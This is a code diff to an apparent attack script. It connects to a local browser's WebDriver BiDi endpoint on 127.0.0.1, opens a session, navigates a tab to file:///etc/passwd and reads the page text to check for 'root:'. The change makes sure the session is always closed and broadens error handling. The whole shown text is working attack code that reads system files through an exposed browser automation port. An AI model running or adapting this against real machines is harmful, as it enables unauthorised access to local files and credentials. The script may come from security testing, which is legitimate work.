@@ -80,6 +80,14 @@ def bidi(conn, host):
                 return answer["result"]
 
     ask(1, "session.new", {"capabilities": {}})
+    try:
+        return read_file(ask)
+    finally:
+        # One that came too early, before there was a tab, would keep itself out.
+        ask(9, "session.end", {})
+
+
+def read_file(ask):
     tab = ask(2, "browsingContext.getTree", {})["contexts"][0]["context"]
     ask(3, "browsingContext.navigate", {"context": tab, "url": "file:///etc/passwd", "wait": "complete"})
     page = {"expression": "document.documentElement.innerText", "target": {"context": tab}, "awaitPromise": False}
@@ -98,7 +106,7 @@ def attack(kind, name):
         try:
             read = speak(conn, f"127.0.0.1:{name}" if kind == "port" else "127.0.0.1")
             print("GOT", kind, name, "root:" in read, flush=True)
-        except (OSError, ValueError, KeyError):
+        except (OSError, ValueError, LookupError):
             pass
         finally:
             conn.close()
